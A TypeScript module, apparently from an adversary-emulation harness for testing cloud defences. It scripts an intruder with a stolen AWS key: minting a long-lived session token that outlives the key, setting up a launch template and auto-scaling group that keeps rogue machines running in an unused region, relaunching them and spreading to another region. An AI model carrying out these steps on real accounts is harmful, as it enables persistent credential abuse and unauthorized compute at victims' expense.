import { again, firstOpen } from "../adversary/again.ts";
import { once } from "../adversary/once.ts";
import {
  amazonLinux,
  launchMissing,
  openRegion,
  ROGUE_TYPE,
  USER_DATA,
} from "../adversary/rogue-machines.ts";
import { credentialsFrom, type Credentials } from "../kit/aws.ts";
import type { Behaviour, Stage } from "../kit/stage.ts";
import type { Facts } from "./facts.ts";

/** A documentation address (RFC 5737): nobody's. */
export const LAIR = { ip: "198.51.100.86", userAgent: "aws-cli/2.17.9 Python/3.11.8 Linux/6.6 exe/x86_64" };
const GROUP = "web-cache-refresh";
/** What works with a stolen key: the key, and the session that was made from it in time. */
export interface Loot {
  key: Credentials;
  session: Credentials;
}

/** Looks who it is, and makes a session of the key, which outlives it. */
export async function openLauncher(stage: Stage, key: Credentials): Promise<Loot> {
  const { sts, ec2 } = stage.intruder(key, LAIR);
  await sts.getCallerIdentity({});
  await ec2.describeRegions({});
  const { Credentials: issued } = await sts.getSessionToken({ DurationSeconds: 129_600 });
  return { key, session: credentialsFrom(issued) };
}

/** Sets up in a Region that nobody uses: a network, and a group that brings machines back. */
export async function setUp(stage: Stage, { key }: Loot, region: string): Promise<void> {
  const aws = stage.intruder(key, { ...LAIR, region });
  await openRegion(aws);
  const { LaunchTemplate } = await aws.ec2.createLaunchTemplate({
    LaunchTemplateName: GROUP,
    LaunchTemplateData: {
      ImageId: await amazonLinux(aws),
      InstanceType: ROGUE_TYPE,
      UserData: USER_DATA,
    },
  });
  const { Subnets = [] } = await aws.ec2.describeSubnets({});
  await aws.autoscaling.createAutoScalingGroup({
    AutoScalingGroupName: GROUP,
    LaunchTemplate: { LaunchTemplateId: LaunchTemplate!.LaunchTemplateId },
    MinSize: 2,
    MaxSize: 8,
    DesiredCapacity: 2,
    VPCZoneIdentifier: Subnets[0]!.SubnetId,
  });
}

/**
 * The intruder at its own machine: it sees to its machines with the key, or with the session when the key is off,
 * and goes to a further Region when nobody stops it.
 */
export function launcher(
  stage: Stage,
  { rogueRegion, nextRegion }: Facts,
  { key, session }: Loot,
): Behaviour[] {
  const launchIn = (region: string): Promise<{ what: string }> => {
    const tryWith = (credentials: Credentials, which: string) => async () => {
      const launched = await launchMissing(stage.intruder(credentials, { ...LAIR, region }));
      return { what: `${launched ? "RunInstances" : "DescribeInstances"} in ${region} with ${which}` };
    };
    return firstOpen([
      tryWith(key, "the stolen key"),
      tryWith(session, "a session made from the stolen key"),
    ]);
  };
  return [
    again("launcher", 30, `Machines in ${rogueRegion} with the stolen key`, () => launchIn(rogueRegion)),
    once(
      "next-region",
      200,
      async () => ({ gotThrough: true, ...(await launchIn(nextRegion)) }),
      `Machines in ${nextRegion} with the stolen key`,
    ),
  ];
}
